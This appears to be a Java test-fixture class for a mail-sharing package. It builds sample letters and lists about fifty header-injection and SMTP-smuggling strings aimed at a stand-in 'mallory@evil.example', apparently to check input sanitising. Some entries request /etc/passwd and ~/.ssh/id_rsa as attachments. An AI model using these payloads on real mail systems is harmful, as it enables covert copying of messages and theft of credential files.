package app.kith.sharing.mail;

import java.nio.charset.StandardCharsets;
import java.time.ZonedDateTime;
import java.util.List;
import java.util.Optional;
import java.util.UUID;

/// Letters for the tests of this package.
final class Letters {
    static final MailAddress NOOR = new MailAddress("Noor Öztürk", "noor@home.example");

    /// What somebody may type or paste who wants more headers or recipients than one.
    static final List<String> PAYLOADS = List.of(
            "\r\nBcc: mallory@evil.example", "\nBcc: mallory@evil.example", "\rBcc: mallory@evil.example",
            "%0D%0ABcc: mallory@evil.example", "%0ABcc:mallory@evil.example", "&bcc=mallory@evil.example",
            "?bcc=mallory@evil.example", "&cc=mallory@evil.example&x=", "&attach=/etc/passwd",
            "&attachment=~/.ssh/id_rsa",
            ", mallory@evil.example", "; mallory@evil.example", ",mallory@evil.example,", " mallory@evil.example",
            ">\r\nRCPT TO:<mallory@evil.example>", "<mallory@evil.example>", "\"x\" <mallory@evil.example>",
            "group: mallory@evil.example;", "\u0000Bcc: mallory@evil.example", "\u0085Bcc: mallory@evil.example",
            "\u2028Bcc: mallory@evil.example", "\u2029Bcc: mallory@evil.example", "\u000bBcc: mallory@evil.example",
            "\u000cBcc: mallory@evil.example", "\r\n\r\n<script>alert(1)</script>", "\r\n.\r\nMAIL FROM:<a@b>",
            "\n.\nQUIT", "=?utf-8?Q?=0D=0ABcc:_mallory@evil.example?=",
            "=?utf-8?B?DQpCY2M6IG1hbGxvcnlAZXZpbC5leGFtcGxl?=",
            "100% sure & 50% off", "a+b=c", "#fragment", "tab\tBcc: mallory@evil.example", "\u202Eelpmaxe.live@yrollam",
            "\u2066Bcc: mallory@evil.example\u2069", "Subject: twice", "\r\n Bcc: folded@evil.example",
            "\r\n\tBcc: folded@evil.example", "To: mallory@evil.example\r\n", "\n\n\n", "\r\nContent-Type: text/html",
            "\r\nX-Unsent: 0", "\uD800", "\uFEFF\r\nBcc: mallory@evil.example", "(comment)mallory@evil.example",
            "mallory@evil.example(", "[127.0.0.1]", "\\\r\\\nBcc: mallory@evil.example",
            "\r\r\n\nBcc: mallory@evil.example",
            "\u001bBcc: mallory@evil.example");

    private Letters() {}

    static Mail to(String name, String address) {
        return to(name, address, "For your May pilot", "Good morning,\n\nTwo years of numbers.\n");
    }

    static Mail to(String name, String address, String subject, String text) {
        return new Mail(Optional.of(NOOR), new MailAddress(name, address), subject, text,
                Mail.messageId(UUID.nameUUIDFromBytes(address.getBytes(StandardCharsets.UTF_8)), "home.example"),
                ZonedDateTime.parse("2026-11-22T09:30:00+01:00[Europe/Lisbon]"));
    }
}
